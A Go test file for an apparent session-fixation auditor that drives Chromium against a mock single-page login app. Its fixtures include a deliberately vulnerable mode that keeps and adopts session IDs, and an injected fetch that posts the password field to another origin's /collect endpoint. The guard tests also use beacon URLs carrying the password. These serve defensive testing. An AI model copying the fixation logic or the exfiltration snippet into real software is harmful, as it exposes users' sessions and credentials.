package auditbrowser

import (
	"context"
	"io"
	"net/url"
	"sync/atomic"

	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"github.com/chromedp/cdproto/network"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"

	"github.com/sessionguard/sessionguard/audit"
)

const (
	testUser = "alice"
	// testPassword has characters whose encodings differ.
	testPassword = `s3cr et&"<pässwörd>€'`
)

// chromium returns the browser to drive. Without one the test skips,
// except under CI, where a missing browser fails.
func chromium(t *testing.T) string {
	t.Helper()
	p, err := (&Driver{}).chrome()
	if err == nil {
		return p
	}
	if os.Getenv("CI") != "" {
		t.Fatalf("%v; CI must run the browser tests (scripts/test-deps.sh installs chromium)", err)
	}
	t.Skipf("%v; install chromium to run the browser tests", err)
	return ""
}

// spa is a single-page application whose login form is built by script,
// so the audit's plain-HTTP sign-in cannot find it.
type spa struct {
	*httptest.Server
	mu       sync.Mutex
	sessions map[string]string // ID → user ("" anonymous)
	uris     []string
	gate     string // when set, every request needs X-Gate with this value
}

func randID() string {
	b := make([]byte, 16)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

// newSPA starts the application: vulnerable keeps the session ID across
// sign-in and adopts unknown IDs; exfil makes the page's script also post
// the password to that origin.
func newSPA(t *testing.T, vulnerable bool, exfil string) *spa {
	return newGatedSPA(t, vulnerable, exfil, "")
}

func newGatedSPA(t *testing.T, vulnerable bool, exfil, gate string) *spa {
	return newSPAWith(t, vulnerable, exfil, gate, false)
}

// formlessLogin is a login page with no <form>: inputs known by id, type
// and labels only, a search box before them, state kept from input
// events (as a React page keeps it), and a button wired by onclick that
// posts the state with fetch.
const formlessLogin = `<!doctype html><title>Sign in</title>
<header><input id="q" type="text" placeholder="Search the shop"></header>
<main><div class="card">
  <label for="ident">Email or user name</label> <input id="ident" type="text">
  <label for="pw">Password</label> <input id="pw" type="password">
  <label><input type="checkbox" id="keep"> Keep me signed in</label>
  <div class="row"><span role="button" tabindex="0" id="go" onclick="signIn()">Sign in</span></div>
</div></main>
<footer><input id="news" type="email" placeholder="Newsletter: your email"> <button type="button">Subscribe</button></footer>
<script>
const state = {};
document.getElementById('ident').addEventListener('input', e => state.login = e.target.value);
document.getElementById('pw').addEventListener('input', e => state.secret = e.target.value);
function signIn() {
  fetch('/session', {method: 'POST', body: new URLSearchParams(state)}).then(r => { if (r.ok) location = '/home'; });
}
</script>`

func newSPAWith(t *testing.T, vulnerable bool, exfil, gate string, formless bool) *spa {
	s := &spa{sessions: map[string]string{}, gate: gate}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		s.uris = append(s.uris, r.RequestURI)
		if s.gate != "" && r.Header.Get("X-Gate") != s.gate {
			http.Error(w, "no gate key", http.StatusForbidden)
			return
		}
		sid := ""
		if c, err := r.Cookie("sid"); err == nil {
			if _, ok := s.sessions[c.Value]; ok || vulnerable {
				sid = c.Value
			}
		}
		set := func(id string) {
			http.SetCookie(w, &http.Cookie{Name: "sid", Value: id, Path: "/", HttpOnly: true, SameSite: http.SameSiteLaxMode})
		}
		switch {
		case r.URL.Path == "/login" && r.Method == http.MethodGet:
			if sid == "" {
				sid = randID()
				set(sid)
			}
			if _, ok := s.sessions[sid]; !ok {
				s.sessions[sid] = ""
			}
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			if formless {
				fmt.Fprint(w, formlessLogin)
				return
			}
			send := ""
			if exfil != "" {
				send = fmt.Sprintf(`fetch(%q + '/collect', {method: 'POST', mode: 'no-cors', body: f.elements.secret.value});`, exfil)
			}
			fmt.Fprintf(w, `<!doctype html><title>Sign in</title><div id="app">Loading…</div>
<script>
setTimeout(function () {
  var f = document.createElement('form'); f.method = 'post'; f.action = '/session';
  f.innerHTML = '<input name="login" autocomplete="username"><input type="password" name="secret"><button>Sign in</button>';
  f.addEventListener('submit', function () { %s });
  document.getElementById('app').replaceChildren(f);
}, 300);
</script>`, send)
		case r.URL.Path == "/session" && r.Method == http.MethodPost:
			if r.FormValue("login") != testUser || r.FormValue("secret") != testPassword {
				w.WriteHeader(http.StatusUnauthorized)
				fmt.Fprint(w, "<p>Wrong user name or password</p>")
				return
			}
			if sid == "" || !vulnerable {
				delete(s.sessions, sid)
				sid = randID()
				set(sid)
			}
			s.sessions[sid] = testUser
			http.Redirect(w, r, "/home", http.StatusSeeOther)
		case r.URL.Path == "/home":
			if u := s.sessions[sid]; u != "" {
				fmt.Fprintf(w, "<p>Welcome %s</p>", u)
				return
			}
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprint(w, "<p>Not signed in</p>")
		case r.URL.Path == "/logout" && r.Method == http.MethodPost:
			delete(s.sessions, sid)
			http.SetCookie(w, &http.Cookie{Name: "sid", Path: "/", MaxAge: -1})
			http.Redirect(w, r, "/login", http.StatusSeeOther)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(s.Close)
	return s
}

func target(t *testing.T, base string) audit.Target {
	d := &Driver{}
	t.Cleanup(func() { _ = d.Close() })
	return audit.Target{BaseURL: base, User: testUser, Password: testPassword, CheckPath: "/home",
		LogoutPath: "/logout", LogoutMethod: "POST", Samples: -1, SignIn: d}
}

// TestBrowserSignIn: a form built by script cannot be audited over plain
// HTTP; through the browser the vulnerable variant fails fixation and the
// fixed one passes, every session is closed, and the password is in no
// output and no URL.
func TestBrowserSignIn(t *testing.T) {
	chromium(t)
	for _, vulnerable := range []bool{true, false} {
		t.Run(fmt.Sprintf("vulnerable=%v", vulnerable), func(t *testing.T) {
			t.Parallel()
			srv := newSPA(t, vulnerable, "")
			tg := target(t, srv.URL)
			tg.SignIn = nil
			if _, err := audit.Run(context.Background(), tg); !errors.Is(err, audit.ErrNoLoginForm) {
				t.Fatalf("plain HTTP: %v, want ErrNoLoginForm (the form is built by script)", err)
			}
			tg = target(t, srv.URL)
			// The fixed variant runs the wrong-password probe through the
			// browser; once is enough, and it costs a browser sign-in.
			tg.NoWrongPasswordProbe = vulnerable
			rep, err := audit.Run(context.Background(), tg)
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			want := map[string]audit.Status{audit.IDFixation: audit.StatusPass, audit.IDAdoptsUnknownID: audit.StatusPass,
				audit.IDLogoutInvalidation: audit.StatusPass, audit.IDFixationURL: audit.StatusSkip, audit.IDLoginCSRF: audit.StatusSkip}
			if vulnerable {
				want[audit.IDFixation], want[audit.IDAdoptsUnknownID] = audit.StatusFail, audit.StatusFail
			}
			for id, st := range want {
				c, _ := rep.Check(id)
				if c.Status != st {
					t.Errorf("%s: %s, want %s: %q", id, c.Status, st, c.Evidence)
				}
			}
			wantVerdict, wantExit := audit.VerdictNoFixationFound, 0
			if vulnerable {
				wantVerdict, wantExit = audit.VerdictVulnerable, 1
			}
			if rep.Verdict != wantVerdict || rep.ExitCode(audit.SeverityHigh) != wantExit {
				t.Errorf("verdict %s (%s), exit %d; want %s, exit %d", rep.Verdict, rep.Summary, rep.ExitCode(audit.SeverityHigh), wantVerdict, wantExit)
			}
			if rep.SessionsLeftOpen != 0 {
				t.Errorf("%d of %d sessions left open", rep.SessionsLeftOpen, rep.SessionsCreated)
			}
			for _, out := range outputs(t, rep) {
				if l := leaks(out); l != "" {
					t.Errorf("an output shows the password as %q", l)
				}
			}
			srv.mu.Lock()
			defer srv.mu.Unlock()
			for _, u := range srv.uris {
				if leaks(u) != "" {
					t.Errorf("the password reached a URL: %s", u)
				}
			}
		})
	}
}

// TestBrowserSignInWithoutForm: a login page with no <form> (inputs by
// id and label, a search box and a newsletter box beside them, a button
// wired by onclick, state kept from input events) is signed in through as
// a password manager would, vulnerable and fixed.
func TestBrowserSignInWithoutForm(t *testing.T) {
	chromium(t)
	for _, vulnerable := range []bool{true, false} {
		t.Run(fmt.Sprintf("vulnerable=%v", vulnerable), func(t *testing.T) {
			t.Parallel()
			srv := newSPAWith(t, vulnerable, "", "", true)
			tg := target(t, srv.URL)
			tg.NoWrongPasswordProbe = true
			rep, err := audit.Run(context.Background(), tg)
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			want, verdict := audit.StatusPass, audit.VerdictNoFixationFound
			if vulnerable {
				want, verdict = audit.StatusFail, audit.VerdictVulnerable
			}
			if c, _ := rep.Check(audit.IDFixation); c.Status != want || rep.Verdict != verdict {
				t.Errorf("fixation %s, verdict %s; want %s, %s: %q", c.Status, rep.Verdict, want, verdict, c.Evidence)
			}
			srv.mu.Lock()
			defer srv.mu.Unlock()
			for _, u := range srv.uris {
				if strings.Contains(u, "q=") || leaks(u) != "" {
					t.Errorf("a request went where it should not: %s", u)
				}
			}
		})
	}
}

// TestCheckRefusesCA: a private CA cannot be given to Chromium.
func TestCheckRefusesCA(t *testing.T) {
	chromium(t)
	tg := target(t, "https://127.0.0.1:1")
	if err := (&Driver{}).Check(tg); err != nil {
		t.Fatalf("Check without a CA: %v", err)
	}
	if err := (&Driver{Chrome: "/nonexistent/chromium"}).Check(tg); !errors.Is(err, ErrNoChromium) {
		t.Errorf("Check with a missing browser: %v", err)
	}
	_ = exec.ErrNotFound
}

func outputs(t *testing.T, rep *audit.Report) []string {
	t.Helper()
	var outs []string
	for _, w := range []func(*strings.Builder) error{
		func(b *strings.Builder) error { return audit.WriteJSON(b, rep) },
		func(b *strings.Builder) error { return audit.WriteSARIF(b, rep) },
		func(b *strings.Builder) error { return audit.WriteMarkdown(b, rep) },
		func(b *strings.Builder) error { return audit.WriteText(b, rep, audit.TextOptions{Verbose: true}) },
	} {
		var b strings.Builder
		if err := w(&b); err != nil {
			t.Fatal(err)
		}
		outs = append(outs, b.String())
	}
	return outs
}

// leaks returns the first encoding of the password found in s.
func leaks(s string) string {
	for _, f := range secretForms(testPassword) {
		if strings.Contains(s, f) {
			return f
		}
	}
	return ""
}

// TestBrowserHeaderAndProxy: -H reaches the application from the browser
// too (a gateway refuses requests without it), and the browser's requests
// go through --proxy, loopback included.
func TestBrowserHeaderAndProxy(t *testing.T) {
	chromium(t)
	t.Parallel()
	const key = "g4te-k3y-value"
	srv := newGatedSPA(t, false, "", key)
	var proxied atomic.Int64
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost && r.URL.Path == "/session" {
			proxied.Add(1) // only the browser submits the script-built form
		}
		out := r.Clone(r.Context())
		out.RequestURI = ""
		resp, err := http.DefaultTransport.RoundTrip(out)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer resp.Body.Close()
		for k, v := range resp.Header {
			w.Header()[k] = v
		}
		w.WriteHeader(resp.StatusCode)
		_, _ = io.Copy(w, resp.Body)
	}))
	t.Cleanup(proxy.Close)
	pu, _ := url.Parse(proxy.URL)
	tg := target(t, srv.URL)
	tg.NoWrongPasswordProbe = true
	tg.Header = http.Header{"X-Gate": {key}}
	tg.Proxy = pu
	tg.SignIn.(*Driver).Proxy = pu
	rep, err := audit.Run(context.Background(), tg)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if c, _ := rep.Check(audit.IDFixation); c.Status != audit.StatusPass {
		t.Errorf("fixation %s: %q", c.Status, c.Evidence)
	}
	if proxied.Load() == 0 {
		t.Errorf("no sign-in of the browser went through the proxy")
	}
	for _, out := range outputs(t, rep) {
		if strings.Contains(out, key) {
			t.Errorf("an output shows the -H value")
		}
	}
}

// TestGuard: the browser's requests are judged as the audit's own: the
// target's origin gets -H, the login page's and allowed origins nothing
// more, a load-only origin scripts and styles until typing starts, any
// other origin (another port of the same host included) nothing at all.
func TestGuard(t *testing.T) {
	g := &guard{login: "http://127.0.0.1:8080", target: "http://127.0.0.1:8080", allowed: map[string]bool{"https://sso.example": true},
		loadOnly: map[string]bool{"https://cdn.example": true}, secrets: secretForms(testPassword), header: http.Header{"X-Gate": {"k"}}}
	body := []*network.PostDataEntry{{Bytes: []byte("secret=" + url.QueryEscape(testPassword))}}
	script, xhr := network.ResourceTypeScript, network.ResourceTypeXHR
	for _, tc := range []struct {
		name   string
		req    network.Request
		typ    network.ResourceType
		typing bool
		ok     bool
		header bool
	}{
		{"sign-in on the target", network.Request{URL: "http://127.0.0.1:8080/session", Method: "POST", HasPostData: true, PostDataEntries: body}, xhr, true, true, true},
		{"allowed sign-in service", network.Request{URL: "https://sso.example/login", Method: "POST", HasPostData: true, PostDataEntries: body}, xhr, true, true, false},
		{"another host", network.Request{URL: "http://localhost:8080/collect", Method: "POST", HasPostData: true}, xhr, false, false, false},
		{"another port", network.Request{URL: "http://127.0.0.1:8081/app.js", Method: "GET"}, script, false, false, false},
		{"another scheme", network.Request{URL: "https://127.0.0.1:8080/app.js", Method: "GET"}, script, false, false, false},
		{"a script from another origin", network.Request{URL: "https://t.example/app.js", Method: "GET"}, script, false, false, false},
		{"load-only script before typing", network.Request{URL: "https://cdn.example/app.js", Method: "GET"}, script, false, true, false},
		{"load-only script after typing", network.Request{URL: "https://cdn.example/late.js", Method: "GET"}, script, true, false, false},
		{"load-only image (a beacon)", network.Request{URL: "https://cdn.example/p.gif?d=x", Method: "GET"}, network.ResourceTypeImage, false, false, false},
		{"load-only POST", network.Request{URL: "https://cdn.example/k", Method: "POST", HasPostData: true}, network.ResourceTypeFetch, false, false, false},
		{"password in a beacon to another origin", network.Request{URL: "https://t.example/p.gif?d=" + url.QueryEscape(testPassword), Method: "GET"}, network.ResourceTypeImage, true, false, false},
		{"password in a URL of the target", network.Request{URL: "http://127.0.0.1:8080/login?pw=" + url.QueryEscape(testPassword), Method: "GET"}, network.ResourceTypeDocument, false, false, false},
		// The same, as scripts and the browser encode it.
		{"encodeURIComponent", network.Request{URL: "http://127.0.0.1:8080/login?pw=" + encodeURIComponent(testPassword), Method: "GET"}, network.ResourceTypeDocument, false, false, false},
		{"URLSearchParams", network.Request{URL: "http://127.0.0.1:8080/login?pw=" + searchParams(testPassword), Method: "GET"}, network.ResourceTypeDocument, false, false, false},
		{"encoded twice", network.Request{URL: "http://127.0.0.1:8080/login?next=" + url.QueryEscape("/x?pw="+encodeURIComponent(testPassword)), Method: "GET"}, network.ResourceTypeDocument, false, false, false},
		{"hex", network.Request{URL: "http://127.0.0.1:8080/login?h=" + hex.EncodeToString([]byte(testPassword)), Method: "GET"}, network.ResourceTypeDocument, false, false, false},
		{"password in the path", network.Request{URL: "http://127.0.0.1:8080/u/" + url.PathEscape(testPassword), Method: "GET"}, network.ResourceTypeDocument, false, false, false},
		{"an ordinary URL of the target", network.Request{URL: "http://127.0.0.1:8080/app.js?v=%2F1%25", Method: "GET"}, script, false, true, true},
	} {
		g.typing.Store(tc.typing)
		ok, add := g.decide(&tc.req, tc.typ)
		if ok != tc.ok || (add != nil) != tc.header {
			t.Errorf("%s: ok %v, header %v; want %v, %v", tc.name, ok, add != nil, tc.ok, tc.header)
		}
	}
	if len(g.unsafe) != 6 {
		// Only the target's own URLs with the password (the six above)
		// stop the sign-in; another origin's request is blocked whatever
		// it carries.
		t.Errorf("requests that stop the sign-in: %q, want the target's six", g.unsafe)
	}
	for _, u := range g.unsafe {
		if carriesSecret(u, secretForms(testPassword)) {
			t.Errorf("the reason a sign-in stopped shows the password: %s", u)
		}
	}
	for o := range g.blocked {
		if leaks(o) != "" {
			t.Errorf("a blocked origin shows the password: %s", o)
		}
	}
	for _, u := range g.unsafe {
		if leaks(u) != "" {
			t.Errorf("a block reason shows the password: %s", u)
		}
	}
}

// encodeURIComponent is JavaScript's: every byte but A-Z a-z 0-9 - _ . ! ~ * ' ( ) percent-encoded.
func encodeURIComponent(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || strings.IndexByte("-_.!~*'()", c) >= 0 {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// searchParams is URLSearchParams's: a space as +, and every byte but A-Z a-z 0-9 * - . _ percent-encoded.
func searchParams(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		switch {
		case c == ' ':
			b.WriteByte('+')
		case 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || strings.IndexByte("*-._", c) >= 0:
			b.WriteByte(c)
		default:
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}
